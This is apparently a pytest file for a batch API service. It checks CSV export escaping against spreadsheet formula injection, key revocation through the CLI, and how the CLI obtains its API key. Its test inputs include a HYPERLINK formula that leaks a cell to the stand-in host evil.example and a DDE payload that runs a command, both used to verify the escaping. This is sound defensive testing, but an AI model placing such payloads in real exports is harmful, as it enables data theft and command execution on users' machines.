"""Export and key hygiene, in process, against the real API (FastAPI's TestClient): CSV cells a
spreadsheet would run, revocation seen by the very next request, where the CLI takes its key."""

from __future__ import annotations

import argparse
import csv
import getpass
import io
import os
import time
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from pcq.db import make_engine, make_session_factory, unit_of_work
from pcq.jobs.lifecycle import AttemptRecord
from pcq.models import utcnow
from pcq.tenants import create_key_at, list_keys
from pcq.wire import BasisData, CitationData, ParsedCompletion
from shell import cli
from shell.client import PcqClient
from shell.export import FORMULA_TRIGGERS, csv_safe
from tests.conftest import make_settings
from tests.core import lifecycle_helpers as one

REQ = {"model": "lite", "messages": [{"role": "user", "content": "q"}]}
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


class _ViaTestClient(PcqClient):
    """The CLI's own client, its requests sent to the app in process."""

    def __init__(self, http: TestClient, key: str) -> None:
        http.headers["Authorization"] = f"Bearer {key}"
        self._http = http

    def close(self) -> None:
        pass  # the test's TestClient outlives the command


@pytest.fixture
def pcq_env(monkeypatch: pytest.MonkeyPatch) -> None:
    """The CLI reads its settings from the environment: start from none of pcq's."""
    for name in list(os.environ):
        if name.startswith("PCQ_") or name in ("DATABASE_URL", "REDIS_URL", "PARALLEL_API_KEY"):
            monkeypatch.delenv(name)


def _record(n: int, outcome: str) -> AttemptRecord:
    now = utcnow()
    return AttemptRecord(number=n, started_at=now, finished_at=now, outcome=outcome)


def test_csv_export_writes_formula_cells_as_text(
    sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    custom_ids = [HYPERLINK, "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx", "plain", "ok=fine"]
    settings = make_settings(DATABASE_URL=sqlite_url, PCQ_BROKER_URL="memory://")
    with TestClient(create_app(settings)) as http:
        key = create_key_at(sqlite_url, "acme")
        body = {"requests": [{"custom_id": c, "body": REQ} for c in custom_ids]}
        r = http.post("/v1/batches", json=body, headers={"Authorization": f"Bearer {key}"})
        assert r.status_code == 202, r.text
        batch_id = r.json()["id"]
        jobs = http.get(f"/v1/jobs?batch_id={batch_id}", headers={"Authorization": f"Bearer {key}"})
        job_ids = {j["custom_id"]: j["id"] for j in jobs.json()["data"]}

        # The worker's side, by the real lifecycle: one answer full of formulas, one failure.
        sessions = make_session_factory(make_engine(sqlite_url))
        with unit_of_work(sessions) as s:
            ok = one.claim(s, job_ids[HYPERLINK], now=utcnow(), lease_seconds=60, max_attempts=3)
            bad = one.claim(s, job_ids["plain"], now=utcnow(), lease_seconds=60, max_attempts=3)
        assert ok is not None
        assert bad is not None
        completion = ParsedCompletion(
            raw_body="{}",
            content="=1+2",
            parsed=None,
            model="@model",
            finish_reason="-stop",
            upstream_id=None,
            usage={"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7},
            basis=[
                BasisData("output", None, None, [CitationData("=cmd|' /C calc'!A0", None, None)]),
            ],
        )
        with unit_of_work(sessions) as s:
            assert one.store_success(s, ok, _record(ok.attempt, "ok"), completion)
        with unit_of_work(sessions) as s:
            one.store_failure(s, bad, _record(bad.attempt, "fatal"), code="+code", error="-boom")

        out, cites = tmp_path / "out.csv", tmp_path / "citations.csv"
        monkeypatch.setattr(cli, "_client", lambda _args: _ViaTestClient(http, key))
        assert (
            cli.main(["export", batch_id, "--format", "csv", "-o", str(out), "--citations", str(cites)]) == 0
        )

    with out.open(newline="", encoding="utf-8") as f:
        rows = {r["job_id"]: r for r in csv.DictReader(f)}
    assert len(rows) == len(custom_ids)
    by_custom = {r["custom_id"]: r for r in rows.values()}
    # Every cell a spreadsheet would run starts with a quote; nothing else changed.
    assert set(by_custom) == {
        "'" + HYPERLINK,
        "'+1",
        "'-2",
        "'@SUM(A1:A9)",
        "'\tx",
        "'\rx",
        "plain",
        "ok=fine",
    }
    answered = rows[job_ids[HYPERLINK]]
    assert answered["content"] == "'=1+2"
    assert answered["model"] == "'@model"
    assert answered["finish_reason"] == "'-stop"
    with cites.open(newline="", encoding="utf-8") as f:
        (cite,) = list(csv.DictReader(f))
    assert cite["url"] == "'=cmd|' /C calc'!A0"
    assert cite["custom_id"] == "'" + HYPERLINK
    assert [answered[c] for c in ("prompt_tokens", "completion_tokens", "citation_count")] == ["3", "4", "1"]
    failed = rows[job_ids["plain"]]
    assert (failed["status"], failed["error_code"], failed["error"]) == ("failed", "'+code", "'-boom")
    for row in [*rows.values(), cite]:
        for column, value in row.items():
            assert not value.startswith(FORMULA_TRIGGERS), (column, value)


def test_csv_safe_leaves_numbers_and_empty_cells() -> None:
    assert [csv_safe(v) for v in (None, 0, -3, 2.5, "", "a-b", "-", "\n=x")] == [
        None,
        0,
        -3,
        2.5,
        "",
        "a-b",
        "'-",
        "\n=x",
    ]
    assert csv_safe(True) == "True"
    assert csv_safe(["=x"]) == "['=x']"
    assert csv_safe("=4") == "'=4"  # text where a number belongs is text


def test_a_key_revoked_through_the_cli_is_refused_by_the_next_request_of_every_api(
    db_url: str, pcq_env: None, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Authentication reads the key's row on every request (nothing cached), so two API
    processes (two apps) both refuse a key from the first request after `pcq keys revoke`."""
    monkeypatch.setenv("DATABASE_URL", db_url)
    key = create_key_at(db_url, "acme")
    other = create_key_at(db_url, "acme")
    engine = make_engine(db_url)
    with make_session_factory(engine)() as s:
        key_id = next(k.id for k in list_keys(s) if key.startswith(f"pcq_{k.prefix}_"))
    engine.dispose()
    auth = {"Authorization": f"Bearer {key}"}
    settings = make_settings(DATABASE_URL=db_url, PCQ_BROKER_URL="memory://")
    with TestClient(create_app(settings)) as one, TestClient(create_app(settings)) as two:
        for api in (one, two):  # each has authenticated the key (a cache would now hold it)
            assert api.get("/v1/jobs", headers=auth).status_code == 200
            assert api.get("/v1/jobs", headers={"x-api-key": key}).status_code == 200

        assert cli.main(["keys", "revoke", key_id]) == 0
        revoked_at = time.monotonic()
        for api in (one, two):
            r = api.get("/v1/jobs", headers=auth)
            assert r.status_code == 401, r.text
            assert api.get("/v1/jobs", headers={"x-api-key": key}).status_code == 401
            # the tenant's other key is untouched
            assert api.get("/v1/jobs", headers={"Authorization": f"Bearer {other}"}).status_code == 200
        assert time.monotonic() - revoked_at < 1.0
    out = capsys.readouterr().out
    assert f"revoked {key_id}" in out
    assert key.split("_", 2)[2] not in out  # the secret part (which may hold "_") is never shown


def _args(api_key: str | None = None) -> argparse.Namespace:
    return argparse.Namespace(api_key=api_key, api_url=None)


class _Stdin(io.StringIO):
    def __init__(self, tty: bool) -> None:
        super().__init__("")
        self._tty = tty

    def isatty(self) -> bool:
        return self._tty


def _no_prompt(*_: Any) -> str:
    raise AssertionError("prompted")


def test_the_key_comes_from_pcq_api_key_without_a_prompt_or_a_warning(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("sys.stdin", _Stdin(tty=True))
    monkeypatch.setattr(getpass, "getpass", _no_prompt)
    settings = make_settings(PCQ_API_KEY="pcq_aaaaaaaaaaaa_fromenv")
    assert cli._api_key(_args(), settings) == "pcq_aaaaaaaaaaaa_fromenv"
    assert capsys.readouterr().err == ""


def test_at_a_terminal_without_pcq_api_key_the_key_is_prompted_for(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    prompts: list[str] = []

    def fake_getpass(prompt: str = "") -> str:
        prompts.append(prompt)
        return "pcq_aaaaaaaaaaaa_typed\n"

    monkeypatch.setattr("sys.stdin", _Stdin(tty=True))
    monkeypatch.setattr(getpass, "getpass", fake_getpass)
    assert cli._api_key(_args(), make_settings()) == "pcq_aaaaaaaaaaaa_typed"
    assert prompts == ["pcq API key: "]
    assert "pcq_aaaaaaaaaaaa_typed" not in capsys.readouterr().err


def test_without_a_terminal_or_pcq_api_key_the_cli_stops_clearly(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.stdin", _Stdin(tty=False))
    monkeypatch.setattr(getpass, "getpass", _no_prompt)
    with pytest.raises(SystemExit, match="PCQ_API_KEY"):
        cli._api_key(_args(), make_settings())


def test_api_key_on_the_command_line_still_works_with_a_warning(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("sys.stdin", _Stdin(tty=True))
    monkeypatch.setattr(getpass, "getpass", _no_prompt)
    settings = make_settings(PCQ_API_KEY="pcq_aaaaaaaaaaaa_fromenv")
    assert cli._api_key(_args("pcq_bbbbbbbbbbbb_flag"), settings) == "pcq_bbbbbbbbbbbb_flag"
    err = capsys.readouterr().err
    assert "warning" in err
    assert "process list" in err
    assert "pcq_bbbbbbbbbbbb_flag" not in err
